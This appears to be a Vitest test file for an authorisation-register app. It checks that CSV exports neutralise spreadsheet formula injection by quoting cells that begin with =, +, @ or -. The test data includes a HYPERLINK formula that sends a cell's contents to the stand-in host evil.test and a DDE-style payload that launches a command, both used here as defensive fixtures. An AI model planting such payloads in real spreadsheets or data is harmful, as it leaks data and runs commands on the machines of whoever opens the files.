import { describe, it, expect, beforeAll } from 'vitest';
import { parse } from 'csv-parse/sync';
import { makeTestApp, type TestApp } from '../support/app.js';
import { DEMO, DEMO_PASSWORD, signIn } from '../support/people.js';
import { makeScope, newPerson } from '../support/authorisations.js';
import { asBytes } from '../support/download.js';

let t: TestApp;
let admin: Awaited<ReturnType<typeof signIn>>;
let manager: Awaited<ReturnType<typeof signIn>>;
let auditor: Awaited<ReturnType<typeof signIn>>;

beforeAll(async () => {
  t = await makeTestApp();
  admin = await signIn(t, DEMO.admin);
  manager = await signIn(t, DEMO.manager);
  auditor = await signIn(t, DEMO.auditor);
});

const rowsOf = (body: Buffer) => parse(body.toString('utf8'), { relax_column_count: true, skip_empty_lines: false }) as string[][];

describe('CSV exports never hand a spreadsheet a formula', () => {
  it('when a name starts with = and a scope title with +, then the register CSV starts those cells with a quote; numbers stay numbers', async () => {
    const person = await newPerson(t);
    const name = '=HYPERLINK("http://evil.test/?"&A1,"Open")';
    expect((await admin.patch(`/api/people/${person.id}`).send({ name })).status).toBe(200);
    const scope = await makeScope(manager, { title: '+ live fault-finding', maxVoltageV: 250 });
    const prior = await manager.post('/api/authorisations/prior').send({
      holderId: person.id, scopeId: scope.id, issuedOn: '2025-06-01', expiresOn: '2026-05-31', attestedBy: 'Heike Krause', password: DEMO_PASSWORD,
    });
    expect(prior.status).toBe(201);
    const res = await asBytes(auditor.get('/api/register/export.csv').query({ personId: person.id }));
    expect(res.status).toBe(200);
    const lines = rowsOf(res.body as Buffer);
    const at = lines.findIndex((l) => l[0] === 'Person');
    const [header, row] = [lines[at], lines[at + 1]];
    const cell = (h: string) => row[header.indexOf(h)];
    expect(cell('Person')).toBe(`'${name}`);
    expect(cell('Scope')).toBe("'+ live fault-finding");
    expect(cell('Max voltage (V)')).toBe('250');
  });

  it('when a finding starts with @ or -, then the findings CSV starts that cell with a quote', async () => {
    const tech = await newPerson(t);
    const texts = ['@SUM(1+1)*cmd|"/c calc"!A0', '-2+3 was entered as the reading'];
    for (const text of texts) expect((await auditor.post('/api/findings').send({ entity: 'person', entityId: tech.id, severity: 'minor', text })).status).toBe(201);
    const res = await asBytes(auditor.get('/api/findings/export.csv').query({ entity: 'person', entityId: tech.id }));
    expect(res.status).toBe(200);
    const lines = rowsOf(res.body as Buffer);
    const at = lines[0].indexOf('Finding');
    expect(lines.slice(1).filter((l) => l.length > 1).map((l) => l[at]).sort()).toEqual(texts.map((x) => `'${x}`).sort());
  });
});
